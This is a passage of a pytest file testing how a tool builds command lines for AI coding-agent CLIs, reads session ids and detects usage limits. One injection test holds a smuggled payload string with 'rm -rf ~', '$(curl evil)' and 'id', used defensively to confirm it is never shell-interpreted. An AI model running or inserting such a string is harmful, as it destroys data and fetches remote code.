        "go", model="big", effort="low", resume_session_id=None, permissions="cli"
    ).argv == [
        "mytool",
        "--model",
        "big",
        "--effort=low",
        "-p",
        "go",
    ]
    resumed = tool.build_invocation(
        "go", model="big", effort=None, resume_session_id="s-9", permissions="cli"
    )
    assert resumed.argv == ["mytool", "--continue", "s-9", "go"]


def test_config_platform_values_cannot_inject(home: Path) -> None:
    write_config(home, TOOL_CONFIG)
    nasty = "x; rm -rf ~ && $(curl evil) `id` {model} {session_id}\n--model evil"
    argv = (
        get_platform("mytool")
        .build_invocation(
            nasty, model="{prompt} --danger", effort=None, resume_session_id=None, permissions="cli"
        )
        .argv
    )
    assert argv == ["mytool", "--model", "{prompt} --danger", "-p", nasty]


def test_config_platform_without_resume_argv_starts_fresh(home: Path) -> None:
    write_config(home, '[platforms.plain]\nargv = ["plain", "{prompt}"]\n')
    plain = get_platform("plain")
    resumed = plain.build_invocation(
        "go", model="m", effort=None, resume_session_id="s", permissions="cli"
    )
    assert resumed.argv == ["plain", "go"]
    assert plain.session_id_from_line("session: abc") is None
    assert plain.usage_limit("quota hit", NOW) is None


def test_config_platform_session_id_and_limit(home: Path) -> None:
    write_config(home, TOOL_CONFIG)
    tool = get_platform("mytool")
    assert tool.session_id_from_line("starting, session: abc-1") == "abc-1"
    assert tool.session_id_from_line("working") is None
    found = tool.usage_limit("working\nquota hit, retry in 90s\n", NOW)
    assert found == UsageLimit(NOW + timedelta(seconds=90), "quota hit, retry in 90s")
    assert tool.usage_limit("all good\n", NOW) is None


def test_config_limit_pattern_with_epoch_and_without_reset(home: Path) -> None:
    write_config(
        home,
        '[platforms.a]\nargv = ["a", "{prompt}"]\n'
        'limit_pattern = "limit until (?P<reset_epoch>\\\\d+)"\n'
        '[platforms.b]\nargv = ["b", "{prompt}"]\nlimit_pattern = "(?i)rate limited"\n',
    )
    assert get_platform("a").usage_limit("limit until 1767225600", NOW) == UsageLimit(
        utc(2026, 1, 1), "limit until 1767225600"
    )
    assert get_platform("b").usage_limit("RATE LIMITED", NOW) == UsageLimit(None, "RATE LIMITED")


@pytest.mark.parametrize(
    ("table", "complaint"),
    [
        ('argv = ["t", "{prompt}", "{colour}"]', "unknown placeholder {colour}"),
        ("argv = []", "must start with the program"),
        ('argv = ["t", "{prompt}"]\nresume_argv = ["t", "{prompt}"]', "{session_id}"),
        ('argv = ["t", "{prompt}"]\nsession_id_pattern = "id: \\\\S+"', "one group"),
        ('argv = ["t", "{prompt}"]\nlimit_pattern = "(unclosed"', "not a valid regular expression"),
        ('argv = ["t", "{prompt}"]\ncolour = "red"', "platforms.t.colour"),
        ('argv = ["t", "{prompt}"]\nexecutable = "/bin/t"', "'executable' is not a setting"),
        ('session_id_pattern = "(x)"', "needs an argv"),
    ],
)
def test_config_refusals(home: Path, table: str, complaint: str) -> None:
    write_config(home, f"[platforms.t]\n{table}\n")
    with pytest.raises(Refused) as refused:
        get_platform("t")
    assert complaint in str(refused.value)
    assert "config.toml" in str(refused.value)


@pytest.mark.parametrize(
    "text",
    [
        "[platforms.claude\n",
        '[platforms.claude]\nargv = ["c", "{prompt}"]\n',
        '[platforms.demo]\nexecutable = "x"\n',
        "platforms = 3\n",
        '[platforms."bad name"]\nargv = ["b", "{prompt}"]\n',
    ],
)
def test_broken_or_misused_config_is_refused(home: Path, text: str) -> None:
    write_config(home, text)
    with pytest.raises(Refused, match="config"):
        get_platform("claude" if "demo" not in text else "demo")


def test_executable_override_and_extra_args(home: Path) -> None:
    write_config(
        home,
        '[platforms.claude]\nexecutable = "/opt/bin/claude"\n'
        '[platforms.codex]\nexecutable = ["npx", "codex"]\n'
        'extra_args = ["--enable", "web_search"]\n',
    )
    claude = (
        get_platform("claude")
        .build_invocation("go", model=None, effort=None, resume_session_id=None, permissions="cli")
        .argv
    )
    assert claude[:2] == ["/opt/bin/claude", "-p"]
    codex = get_platform("codex").build_invocation(
        "go", model=None, effort=None, resume_session_id=None, permissions="read-only"
    )
    assert codex.argv == [
        *("npx", "codex", "exec", "--enable", "web_search"),
        *("--sandbox", "read-only", "--skip-git-repo-check", "--json", "-"),
    ]
    gemini = (
        get_platform("gemini")
        .build_invocation("go", model=None, effort=None, resume_session_id=None, permissions="cli")
        .argv
    )
    assert gemini[0] == "gemini"


def test_unknown_platform_refused_listing_known_ones(home: Path) -> None:
    write_config(
        home,
        '[platforms.zeta]\nargv = ["z", "{prompt}"]\n[platforms.alpha]\nargv = ["a", "{prompt}"]\n',
    )
    assert platform_names() == ["claude", "codex", "gemini", "demo", "alpha", "zeta"]
    with pytest.raises(Refused) as refused:
        get_platform("clade")
    assert str(refused.value) == (
        "unknown platform 'clade'; known platforms: claude, codex, gemini, demo, alpha, zeta"
    )


def test_platform_names_without_config() -> None:
    assert platform_names() == ["claude", "codex", "gemini", "demo"]
    assert all(isinstance(get_platform(name), Platform) for name in platform_names())


# ---------------------------------------------------------- running the fake agent
# (through tests.agent_runs.run_agent)


def git_repo(path: Path) -> Path:
    path.mkdir()
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


@pytest.mark.parametrize("name", HARNESSES)
def test_fake_agent_speaks_each_format(name: str, home: Path, tmp_path: Path) -> None:
    use_fake_agent(home)
    workdir = git_repo(tmp_path / "work")
    record = tmp_path / "record.jsonl"
    prompt = "- first item\nFAKE: write notes/out.txt hello\nFAKE: commit add notes"
    run = run_agent(
        get_platform(name),
        prompt,
        workdir,
        model="m1",
        effort="high",
        FAKE_AGENT_RECORD=str(record),
    )
    assert run.code == 0, run.stderr
    assert run.limit is None
    (entry,) = agent_runs(record)
    assert entry["format"] == name
    assert entry["prompt"] == prompt
    assert entry["resumed"] is None
    assert run.session_id == entry["session_id"]
    assert entry["model"] == "m1"
    assert entry["effort"] == (None if name == "gemini" else "high")
    assert Path(str(entry["cwd"])).resolve() == workdir.resolve()
    assert (workdir / "notes" / "out.txt").read_text() == "hello\n"
    log = subprocess.run(
        ["git", "log", "--format=%s"], cwd=workdir, capture_output=True, text=True, check=True
    )
    assert log.stdout.strip() == "add notes"


@pytest.mark.parametrize("name", HARNESSES)
def test_fake_agent_resume_keeps_the_session(name: str, home: Path, tmp_path: Path) -> None:
    use_fake_agent(home)
    record = tmp_path / "record.jsonl"
    run = run_agent(
        get_platform(name), "carry on", tmp_path, resume="sess-42", FAKE_AGENT_RECORD=str(record)
    )
    assert run.code == 0, run.stderr
    assert run.session_id == "sess-42"
    assert agent_runs(record)[0]["resumed"] == "sess-42"


@pytest.mark.parametrize("permissions", PERMISSION_LEVELS)
def test_fake_claude_takes_each_level_and_the_chosen_session(
    permissions: Permissions, home: Path, tmp_path: Path
) -> None:
    """The fake accepts the permission flags and ``--session-id``, as the real CLI does."""
    use_fake_agent(home)
    claude = get_platform("claude")
    assert isinstance(claude, ClaudePlatform)
    invocation = replace(claude, bypass_refused=False).build_invocation(
        "go",
        model=None,
        effort=None,
        resume_session_id=None,
        permissions=permissions,
        session_id="0f8fad5b-d9cb-469f-a165-70867728950e",
    )
    done = subprocess.run(
        invocation.argv, input=invocation.stdin, cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    ids = {claude.session_id_from_line(text) for text in done.stdout.splitlines()}
    assert ids - {None} == {"0f8fad5b-d9cb-469f-a165-70867728950e"}


@pytest.mark.parametrize("permissions", PERMISSION_LEVELS)
def test_fake_codex_takes_each_level_fresh_and_resumed(
    permissions: Permissions, home: Path, tmp_path: Path
) -> None:
    """The fake accepts the permission flags, before ``resume`` too, as the real CLI does."""
    use_fake_agent(home)
    codex = get_platform("codex")
    for resume in (None, "th-1"):
        invocation = codex.build_invocation(
            "go", model=None, effort=None, resume_session_id=resume, permissions=permissions
        )
        done = subprocess.run(
            invocation.argv, input=invocation.stdin, cwd=tmp_path, capture_output=True, text=True
        )
        assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("name", HARNESSES)
def test_fake_agent_reports_the_usage_it_is_told(name: str, home: Path, tmp_path: Path) -> None:
    """``usage`` shapes the run's end like the real CLI's, so each adapter reads it back;
    only Claude Code prices a run."""
    use_fake_agent(home)
    platform = get_platform(name)
    run = run_agent(platform, "work\nFAKE: usage 1200 340 5000 0.25", tmp_path, model="m1")
    assert run.code == 0, run.stderr
    usage = platform.usage(run.stdout)
    assert usage is not None
    read = (usage.input_tokens, usage.output_tokens, usage.cache_read_tokens, usage.cost_usd)
    assert read == (1200, 340, 5000, 0.25 if name == "claude" else None)
    assert usage.model == (None if name == "codex" else "m1")  # codex exec names no model


UNTIMED_SHAPES = {"quota", "resource_exhausted"}
"""Fake limit shapes that, like the real CLI's, name no reset."""


@pytest.mark.parametrize(
    ("name", "shape", "ahead"),
    [
        (name, shape, ahead)
        for name, shapes in LIMIT_SHAPES.items()
        for shape in shapes
        for ahead in ([timedelta(hours=5)] if shape in UNTIMED_SHAPES else FAKE_RESETS)
    ],
)
def test_fake_agent_limit_is_detected_with_its_reset(
    name: str, shape: str, ahead: timedelta, home: Path, tmp_path: Path
) -> None:
    """Every shape the fake prints (each a real CLI's) reads back as a limit, timed right."""
    use_fake_agent(home)
    started = datetime.now(UTC)
    directive = f"limit {ahead.total_seconds():.0f} {shape}"
    run = run_agent(get_platform(name), "work", tmp_path, FAKE_AGENT_DIRECTIVES=directive)
    assert run.code == 1
    assert run.session_id is not None
    assert run.limit is not None
    if shape in UNTIMED_SHAPES:
        assert run.limit.reset_at is None
    else:
        assert run.limit.reset_at is not None
        # shown to the minute, never later than the real reset
        assert started + ahead - timedelta(minutes=1) <= run.limit.reset_at
        assert run.limit.reset_at <= datetime.now(UTC) + ahead


def test_fake_agent_limit_once_then_succeeds(home: Path, tmp_path: Path) -> None:
    use_fake_agent(home)
    claude = get_platform("claude")
    prompt = f"work\nFAKE: limit-once {tmp_path / 'marker'} 120"
    first = run_agent(claude, prompt, tmp_path)
    assert first.code == 1
    assert first.limit is not None and first.limit.reset_at is not None
    assert first.limit.reset_at - datetime.now(UTC) < timedelta(seconds=121)
    second = run_agent(claude, prompt, tmp_path, resume=first.session_id or "")
    assert (second.code, second.limit, second.session_id) == (0, None, first.session_id)


def test_fake_agent_exit_and_unknown_input(home: Path, tmp_path: Path) -> None:
    use_fake_agent(home)
    codex = get_platform("codex")
    failed = run_agent(codex, "FAKE: exit 3", tmp_path)
    assert (failed.code, failed.limit) == (3, None)
    assert '"turn.failed"' in failed.stdout
    assert run_agent(codex, "FAKE: explode", tmp_path).code == 2
    bad_argv = [sys.executable, str(FAKE_AGENT), "exec", "--jsn", "--", "go"]
    done = subprocess.run(bad_argv, capture_output=True, text=True, check=False)
    assert done.returncode == 2 and "unknown option '--jsn'" in done.stderr


def test_session_id_is_readable_while_the_agent_runs(home: Path, tmp_path: Path) -> None:
    use_fake_agent(home)
    gemini = get_platform("gemini")
    invocation = gemini.build_invocation(
        "FAKE: hang", model=None, effort=None, resume_session_id=None, permissions="cli"
    )
    process = subprocess.Popen(
        invocation.argv, cwd=tmp_path, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        assert process.stdin is not None and process.stdout is not None
        process.stdin.write(invocation.stdin or "")
        process.stdin.close()
        found = None
        for text in process.stdout:
            found = gemini.session_id_from_line(text)
            if found:
                break
        assert found is not None
        assert process.poll() is None
    finally:
        process.kill()
        process.wait()


# ------------------------------------------------------------------ demo platform


def test_demo_platform_commits_a_change(tmp_path: Path) -> None:
    workdir = git_repo(tmp_path / "demo")
    demo = get_platform("demo")
    first = run_agent(demo, "Add a greeting\n\nMore detail.", workdir)
    assert first.code == 0, first.stderr
    assert first.session_id is not None and first.limit is None
    resumed = run_agent(demo, "- Then a farewell", workdir, resume=first.session_id)
    assert resumed.code == 0, resumed.stderr
    assert resumed.session_id == first.session_id
    assert (workdir / "CHANGES.md").read_text() == "- Add a greeting\n- - Then a farewell\n"
    log = subprocess.run(
        ["git", "log", "--format=%s|%an"], cwd=workdir, capture_output=True, text=True, check=True
    )
    assert log.stdout.splitlines() == [
        "demo: - Then a farewell|Canopy demo agent",
        "demo: Add a greeting|Canopy demo agent",
    ]


def test_demo_platform_outside_a_git_tree_fails_cleanly(tmp_path: Path) -> None:
    run = run_agent(
        get_platform("demo"), "Add a greeting", tmp_path, GIT_CEILING_DIRECTORIES=str(tmp_path)
    )
    assert run.code == 1
    assert '"is_error":true' in run.stdout
    assert run.limit is None
